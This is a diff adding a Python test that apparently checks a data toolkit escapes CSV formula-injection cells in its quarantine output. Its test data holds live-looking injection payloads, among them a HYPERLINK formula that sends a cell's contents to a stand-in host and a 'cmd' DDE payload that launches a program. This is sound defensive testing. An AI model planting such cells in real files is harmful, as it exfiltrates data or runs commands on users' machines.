@@ -100,3 +100,29 @@ def test_dollar_signs_in_labels_draw_as_written():
     labels = [t.get_text() for t in ax.get_yticklabels() + ax.get_xticklabels()]
     assert any("Refund $5 or $10" in x for x in labels) or any("Refund $5 or $10" in t.get_text() for t in ax.texts)
     plt.close(fig)
+
+
+def test_csv_outputs_are_safe_to_open_in_a_spreadsheet(tmp_path):
+    """Issue 16 (4): quarantine.csv kept '=HYPERLINK(...)' and '@SUM(...)' cells as they were;
+    opened in a spreadsheet they run. Every CSV the toolkit writes neutralises them, and the
+    raw value is the cell without its leading quote."""
+    from test_bad_inputs import EVENTS, Client, to_csv
+    from cxlib.core.paths import resolve_client_paths
+    from cxlib.ingest import write_ingest
+    (tmp_path / "data" / "acme").mkdir(parents=True)
+    client = Client(tmp_path / "data" / "acme")
+    rows = [r[:] for r in EVENTS]
+    bad = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "\t=1+1"]
+    for i, value in enumerate(bad, start=1):
+        rows[i][1] = value                                   # an unparsable timestamp: quarantined, raw kept
+    client.write("events.csv", to_csv(rows))
+    result = client.ingest()
+    paths = resolve_client_paths("acme", tmp_path / "data", tmp_path / "reports")
+    write_ingest(result, paths)
+    text = paths.quarantine_csv.read_text(encoding="utf-8")
+    written = pd.read_csv(paths.quarantine_csv, dtype=str, keep_default_na=False)
+    cells = [c for col in written.columns for c in written[col]]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], text[:500]
+    values = set(written["value"])
+    assert {"'" + v for v in bad} <= values                    # recoverable: strip the one leading quote
+    assert "-" not in "".join(c[:1] for c in written["row"])  # plain numbers untouched
